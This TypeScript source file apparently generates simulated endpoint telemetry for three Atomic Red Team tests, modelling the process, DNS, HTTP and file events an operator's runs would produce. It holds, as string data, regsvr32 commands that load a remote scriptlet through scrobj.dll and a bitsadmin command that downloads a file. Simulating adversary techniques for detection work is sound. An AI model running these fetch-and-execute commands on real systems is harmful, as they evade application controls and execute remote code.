// Atomic Red Team tests as an operator runs them from PowerShell (Invoke-AtomicTest), with the
// exact command lines of the atomics and what the endpoint sees afterwards.
import {MS_WINDOWS, WIN} from './boot.js';
import {makeEvent, type GenContext, type HostState, type Session, type Step} from './context.js';
import type {Destination} from './destinations.js';
import type {DemoEvent, DemoProcess} from './model.js';
import {outgoing} from './noise-network.js';
import {hashesOf} from './process-table.js';

export const ATOMIC_COMMANDS = {
	'T1218.010-1': 'regsvr32.exe /s /u /i:PathToAtomicsFolder\\T1218.010\\src\\RegSvr32.sct scrobj.dll',
	'T1218.010-2':
		'regsvr32.exe /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct scrobj.dll',
	'T1197-1':
		'bitsadmin.exe /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md %temp%\\bitsadmin1_flag.ps1',
} as const;

export type AtomicId = keyof typeof ATOMIC_COMMANDS;
export const ATOMIC_IDS = Object.keys(ATOMIC_COMMANDS) as AtomicId[];

const GITHUB_RAW: Destination = {name: 'raw.githubusercontent.com', ip: '185.199.108.133', port: 443};
const GITHUB_RAW_ANSWERS = ['185.199.108.133', '185.199.109.133', '185.199.110.133', '185.199.111.133'];
const POWERSHELL = `${WIN.system32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const CMD = `${WIN.system32}\\cmd.exe`;

/** The elevated PowerShell the operator keeps open between tests (never exits, never killed). */
const operatorShells = new WeakMap<Session, DemoProcess>();

interface Run {
	ctx: GenContext;
	hs: HostState;
	s: Session;
	id: AtomicId;
}

/** The steps of one atomic test on a host's desktop session; empty if the session is gone. */
export function atomicSteps(ctx: GenContext, hs: HostState, s: Session, id: AtomicId): Step[] {
	const run: Run = {ctx, hs, s, id};
	let ps: DemoProcess | undefined;
	let cmd: DemoProcess | undefined;
	let tool: DemoProcess | undefined;
	const alive = (p: DemoProcess | undefined): p is DemoProcess => p !== undefined && hs.procs.isAlive(p);
	const steps: Step[] = [
		// The operator's elevated PowerShell, where Invoke-AtomicTest runs.
		t => {
			ps = operatorShells.get(s);
			if (alive(ps) || !alive(s.shell)) return undefined;
			ps = hs.procs.spawn(
				s.shell,
				{image: POWERSHELL, cmdline: `"${POWERSHELL}" `, user: s.account, integrity: 'HIGH', signer: MS_WINDOWS},
				t,
			);
			hs.procs.pin(ps);
			operatorShells.set(s, ps);
			return event(run, 'Process Creation', t, s.shell, {process: ps});
		},
	];
	const home = `C:\\Users\\${s.user.name}`;
	if (id === 'T1218.010-1') {
		// The prerequisite: Invoke-AtomicTest -GetPrereqs fetches the scriptlet first.
		const sct = 'C:\\AtomicRedTeam\\atomics\\T1218.010\\src\\RegSvr32.sct';
		steps.push(
			t =>
				alive(ps)
					? event(run, 'DNS', t, ps, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}})
					: undefined,
			t => (alive(ps) ? tag(run, outgoing(ctx, hs, t, ps, GITHUB_RAW)) : undefined),
			t =>
				alive(ps)
					? event(run, 'File Creation', t, ps, {file: {path: sct, size: 1052, hashes: hashesOf(sct)}})
					: undefined,
		);
	}
	steps.push(t => {
		if (!alive(ps)) return undefined;
		cmd = hs.procs.spawn(
			ps,
			{
				image: CMD,
				cmdline: `"${CMD}" /c "${ATOMIC_COMMANDS[id]}"`,
				user: ps.user,
				integrity: ps.integrity,
				signer: MS_WINDOWS,
			},
			t,
		);
		hs.procs.pin(cmd);
		return event(run, 'Process Creation', t, ps, {process: cmd});
	});
	steps.push(t => {
		if (!alive(cmd)) return undefined;
		const image = id === 'T1197-1' ? `${WIN.system32}\\bitsadmin.exe` : `${WIN.system32}\\regsvr32.exe`;
		tool = hs.procs.spawn(
			cmd,
			{image, cmdline: ATOMIC_COMMANDS[id], user: cmd.user, integrity: cmd.integrity, signer: MS_WINDOWS},
			t,
		);
		hs.procs.pin(tool);
		return event(run, 'Process Creation', t, cmd, {process: tool});
	});
	if (id !== 'T1197-1') {
		// regsvr32 /i: runs the scriptlet through the script component runtime, which it loads.
		const scrobj = `${WIN.system32}\\scrobj.dll`;
		steps.push(t =>
			alive(tool)
				? event(run, 'Module Load', t, tool, {module: {path: scrobj, hashes: hashesOf(scrobj), signer: MS_WINDOWS}})
				: undefined,
		);
	}
	if (id === 'T1218.010-2') {
		const url =
			'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1218.010/src/RegSvr32.sct';
		steps.push(
			t =>
				alive(tool)
					? event(run, 'DNS', t, tool, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}})
					: undefined,
			t => (alive(tool) ? tag(run, outgoing(ctx, hs, t, tool, GITHUB_RAW)) : undefined),
			t =>
				alive(tool) ? event(run, 'HTTP Request', t, tool, {http: {url, method: 'GET', via: 'WININET'}}) : undefined,
		);
	}
	if (id === 'T1197-1') {
		// BITS does the transfer in its service host, writing the file in the user's temp folder.
		const bits = hs.procs.role('svchost-bits');
		const file = `${home}\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1`;
		const url = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md';
		if (bits) {
			steps.push(
				t => event(run, 'DNS', t, bits, {dns: {query: GITHUB_RAW.name, answers: GITHUB_RAW_ANSWERS, ok: true}}),
				t => tag(run, outgoing(ctx, hs, t, bits, GITHUB_RAW)),
				t => event(run, 'HTTP Request', t, bits, {http: {url, method: 'GET', via: 'WININET'}}),
				t => event(run, 'File Creation', t, bits, {file: {path: file, size: 0}}),
				t => event(run, 'File Modification', t, bits, {file: {path: file, size: 3281, hashes: hashesOf(url)}}),
			);
		}
	} else {
		// The scriptlet's payload.
		steps.push(t => {
			if (!alive(tool)) return undefined;
			const calc = hs.procs.spawn(
				tool,
				{
					image: `${WIN.system32}\\calc.exe`,
					cmdline: 'calc.exe',
					user: tool.user,
					integrity: tool.integrity,
					signer: MS_WINDOWS,
				},
				t,
			);
			return event(run, 'Process Creation', t, tool, {process: calc});
		});
	}
	steps.push(
		t => (alive(tool) ? exit(run, t, tool) : undefined),
		t => (alive(cmd) ? exit(run, t, cmd) : undefined),
	);
	if (id === 'T1197-1') {
		// Invoke-AtomicTest -Cleanup.
		const cleanup = 'del %temp%\\bitsadmin1_flag.ps1 >nul 2>&1';
		let del: DemoProcess | undefined;
		steps.push(
			t => {
				if (!alive(ps)) return undefined;
				del = hs.procs.spawn(
					ps,
					{image: CMD, cmdline: `"${CMD}" /c "${cleanup}"`, user: ps.user, integrity: ps.integrity, signer: MS_WINDOWS},
					t,
				);
				hs.procs.pin(del);
				return event(run, 'Process Creation', t, ps, {process: del});
			},
			t =>
				alive(del)
					? event(run, 'File Deletion', t, del, {file: {path: `${home}\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1`}})
					: undefined,
			t => (alive(del) ? exit(run, t, del) : undefined),
		);
	}
	return steps;
}

function event(
	run: Run,
	category: DemoEvent['category'],
	time: number,
	actor: DemoProcess,
	target: DemoEvent['target'],
): DemoEvent {
	return makeEvent(category, time, run.hs, actor, target, run.id);
}

function tag(run: Run, ev: DemoEvent): DemoEvent {
	ev.scenario = run.id;
	return ev;
}

function exit(run: Run, time: number, p: DemoProcess): DemoEvent {
	run.hs.procs.unpin(p);
	run.hs.procs.exit(p);
	return event(run, 'Process Exit', time, p, {exitCode: 0});
}
